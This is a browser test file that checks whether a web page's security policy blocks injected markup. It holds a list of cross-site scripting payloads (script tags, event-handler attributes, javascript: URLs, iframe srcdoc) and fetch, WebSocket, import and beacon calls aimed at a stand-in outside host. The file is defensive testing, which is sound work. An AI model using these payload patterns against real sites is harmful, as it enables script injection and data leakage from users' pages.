"""The headers in a real browser, with nothing escaped: whatever markup lands in the page, nothing
runs and nothing is asked of another address.
"""

import pytest

from tests.served import serving, small_engine

pytestmark = pytest.mark.browser

ELSEWHERE = "http://elsewhere.example"

# Each would run a script or ask another address, if the page let it.
PAYLOADS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg><animate onbegin='window.hit = 1' attributeName=x dur=1s></svg>",
    "<details open ontoggle='window.hit = 1'>x</details>",
    "<video autoplay onerror='window.hit = 1' src=x></video>",
    "<a id=click href='javascript:window.hit = 1'>x</a>",
    "<button id=click onclick='window.hit = 1'>x</button>",
    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "<iframe src='javascript:parent.hit = 1'></iframe>",
    f"<img src='{ELSEWHERE}/a.png'>",
    f"<img srcset='{ELSEWHERE}/a.png 1x'>",
    f"<picture><source srcset='{ELSEWHERE}/a.png'><img src=x></picture>",
    f"<video autoplay src='{ELSEWHERE}/a.mp4' poster='{ELSEWHERE}/a.png'></video>",
    f"<audio autoplay src='{ELSEWHERE}/a.mp3'></audio>",
    f"<iframe src='{ELSEWHERE}/'></iframe>",
    f"<embed src='{ELSEWHERE}/a.svg'>",
    f"<object data='{ELSEWHERE}/a.svg'></object>",
    f"<link rel=stylesheet href='{ELSEWHERE}/a.css'>",
    f"<link rel=preload as=image href='{ELSEWHERE}/a.png'>",
    f"<style>@import url({ELSEWHERE}/a.css);</style>",
    f"<style>@font-face {{font-family: x; src: url({ELSEWHERE}/a.woff)}} p {{font-family: x}}</style><p>x",
    f"<div style='height: 9px; background-image: url({ELSEWHERE}/b.png)'></div>",
    f"<svg><image href='{ELSEWHERE}/a.png' width=9 height=9 /></svg>",
    f"<table background='{ELSEWHERE}/a.png'><td>x</table>",
    f"<input type=image src='{ELSEWHERE}/a.png'>",
    f"<form action='{ELSEWHERE}/'><button id=click>x</button></form>",
    f"<base href='{ELSEWHERE}/'><img src='relative.png'>",
]

INSERT = """markup => {
    window.hit = 0;
    const place = document.createElement('div');
    document.body.append(place);
    place.append(document.createRange().createContextualFragment(markup));  // unlike innerHTML, runs scripts
    place.querySelector('#click')?.click();
}"""


@pytest.fixture(scope="module")
def page(tmp_path_factory, browser):
    """The page in a browser; `asked` are the addresses elsewhere that it asked for."""
    with serving(small_engine(tmp_path_factory.mktemp("policy"))) as served:
        page = browser.new_page()
        asked: list[str] = []

        def elsewhere(route):
            asked.append(route.request.url)
            route.abort()

        page.route(lambda url: not url.startswith((served.address, "data:", "blob:")), elsewhere)
        page.goto(served.address)
        page.get_by_role("textbox").first.wait_for()
        page.asked = asked
        yield page
        page.close()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markup_without_escaping_does_nothing(page, payload):
    """No script of it runs, no other address is asked, and the page stays where it is."""
    page.asked.clear()
    address = page.url
    page.evaluate(INSERT, payload)
    page.wait_for_timeout(60)
    assert page.evaluate("window.hit") == 0
    assert page.asked == [] and page.url == address


def test_scripts_of_the_page_cannot_reach_elsewhere(page):
    """Even one that runs has nobody to tell."""
    page.asked.clear()
    for script in (
        f"fetch('{ELSEWHERE}/', {{mode: 'no-cors'}})",
        f"new Promise((_, no) => {{ new EventSource('{ELSEWHERE}/').onerror = no }})",
        "new Promise((_, no) => { new WebSocket('ws://elsewhere.example/').onerror = no })",
        f"new Promise((_, no) => {{ const i = new Image(); i.onerror = no; i.src = '{ELSEWHERE}/' }})",
        f"import('{ELSEWHERE}/a.js')",
        "new Promise((_, no) => { new Worker(URL.createObjectURL(new Blob(['1']))).onerror = no })",
    ):
        outcome = page.evaluate(f"{script}.then(() => 'went', () => 'refused')")
        assert outcome == "refused", script
    page.evaluate(f"navigator.sendBeacon('{ELSEWHERE}/', 'x')")
    page.wait_for_timeout(60)
    assert page.asked == []


def test_the_page_cannot_be_framed(page):
    """No other page can lay itself over this one."""
    frame = "<iframe src='/'></iframe>"
    page.evaluate(INSERT, frame)
    page.wait_for_timeout(60)
    assert all(not one.url.startswith("http") for one in page.frames[1:])
